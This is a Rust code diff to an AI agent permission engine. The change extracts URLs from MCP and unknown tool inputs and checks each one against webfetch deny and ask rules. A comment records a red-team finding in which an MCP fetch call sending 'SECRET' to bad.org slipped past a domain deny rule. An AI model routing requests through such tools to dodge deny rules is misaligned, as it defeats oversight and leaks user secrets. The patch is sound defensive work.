@@ -265,6 +265,107 @@ fn mcp_commands(req: &Request) -> Vec<String> {
         .collect()
 }
 
+/// How many URLs of one tool input are checked; past it the call asks.
+const MAX_TOOL_URLS: usize = 16;
+/// How many JSON values of one tool input are looked at for URLs; past it the call asks.
+const MAX_URL_VALUES: usize = 4096;
+
+/// The URLs the input of a tool polc has no family for (an MCP tool's `{"url": …}`, a
+/// browser tool's `navigate`, a URL inside a longer string) names: each is decided as a
+/// webfetch, and its deny or ask raises the answer (red team, session 7: under `allow
+/// mcp__docs__*`, `mcp__docs__fetch {"url":"https://bad.org/?d=SECRET"}` was allowed although
+/// `deny webfetch glob "domain:bad.org"` stood). A bare host (`bad.org`) under a key named
+/// like a URL is read as `https://HOST`. `Err` when a bound was met (the caller asks).
+fn tool_urls(req: &Request) -> Result<Vec<String>, ()> {
+    let Request::Tool {
+        tool, input_text, ..
+    } = req
+    else {
+        return Ok(Vec::new());
+    };
+    if crate::tools::is_builtin(tool) || !input_text.contains(['.', ':']) {
+        return Ok(Vec::new());
+    }
+    let Ok(v) = serde_json::from_str::<serde_json::Value>(input_text) else {
+        // Not JSON: its text as one string.
+        let mut out = Vec::new();
+        urls_in(input_text, false, &mut out);
+        return bounded(out);
+    };
+    let mut out = Vec::new();
+    let mut budget = MAX_URL_VALUES;
+    let mut stack = vec![(&v, false)];
+    while let Some((v, url_key)) = stack.pop() {
+        if budget == 0 {
+            return Err(());
+        }
+        budget -= 1;
+        match v {
+            serde_json::Value::String(s) => urls_in(s, url_key, &mut out),
+            serde_json::Value::Array(a) => stack.extend(a.iter().map(|x| (x, url_key))),
+            serde_json::Value::Object(m) => {
+                for (k, x) in m {
+                    let k = k.to_ascii_lowercase();
+                    let named = ["url", "uri", "href", "link", "endpoint", "domain", "host"]
+                        .iter()
+                        .any(|n| k == *n || k.ends_with(&format!("_{n}")) || k.ends_with(n));
+                    stack.push((x, named));
+                    // The key itself may be a URL (`{"https://bad.org": …}`).
+                    urls_in(&k, false, &mut out);
+                }
+            }
+            _ => {}
+        }
+        if out.len() > MAX_TOOL_URLS {
+            return Err(());
+        }
+    }
+    bounded(out)
+}
+
+fn bounded(mut out: Vec<String>) -> Result<Vec<String>, ()> {
+    out.sort();
+    out.dedup();
+    if out.len() > MAX_TOOL_URLS {
+        return Err(());
+    }
+    Ok(out)
+}
+
+/// The URLs in `s`: every `scheme://…` run (up to whitespace, a quote or an angle bracket),
+/// and, under a URL-named key, the whole string when it is a bare host or host/path.
+fn urls_in(s: &str, url_key: bool, out: &mut Vec<String>) {
+    let t = s.trim();
+    if url_key
+        && !t.contains("://")
+        && !t.is_empty()
+        && t.contains('.')
+        && !t.contains(char::is_whitespace)
+        && !t.starts_with(['/', '.', '~'])
+    {
+        out.push(format!("https://{t}"));
+    }
+    let b = s.as_bytes();
+    let mut from = 0;
+    while let Some(i) = s[from..].find("://").map(|i| i + from) {
+        let start = b[..i]
+            .iter()
+            .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.')))
+            .map_or(0, |p| p + 1);
+        let end = b[i..]
+            .iter()
+            .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<' | b'>' | b'`'))
+            .map_or(b.len(), |p| p + i);
+        if start < i && end > i + 3 {
+            out.push(s[start..end].to_string());
+        }
+        from = end.max(i + 3);
+        if out.len() > MAX_TOOL_URLS {
+            return;
+        }
+    }
+}
+
 /// The more restrictive of two roots' judgments (the first on a tie).
 fn stricter(a: Judged, b: Judged) -> Judged {
     use Decision::*;
@@ -317,6 +418,22 @@ fn judge(
             (out, finding) = (o, f);
         }
     }
+    // Likewise the URLs an MCP or unknown tool's input names, decided as webfetches.
+    let urls = tool_urls(call.request);
+    for url in urls.as_deref().unwrap_or_default() {
+        let req = Request::Tool {
+            tool: crate::tools::WEBFETCH.to_string(),
+            subject: url.clone(),
+            input_text: serde_json::json!({ "url": url }).to_string(),
+            name: String::new(),
+        };
+        let (o, f) = protect::decide_guarded(src, call.host, &req, prot, call.cwd, root)?;
+        if matches!(o.decision, Decision::Deny | Decision::Ask)
+            && rank(o.decision) > rank(out.decision)
+        {
+            (out, finding) = (o, f);
+        }
+    }
     for (i, req) in call.also.iter().enumerate() {
         let (o, f) =
             protect::decide_guarded_walked(src, call.host, req, walk(i + 1), prot, call.cwd, root)?;
@@ -324,7 +441,10 @@ fn judge(
             (out, finding) = (o, f);
         }
     }
-    if let Some(why) = call.unattestable {
+    let too_many = urls
+        .is_err()
+        .then_some("a tool input naming more URLs than polc checks");
+    if let Some(why) = call.unattestable.or(too_many) {
         if matches!(out.decision, Decision::Allow | Decision::Default) {
             out.decision = Decision::Ask;
             out.winner = None;
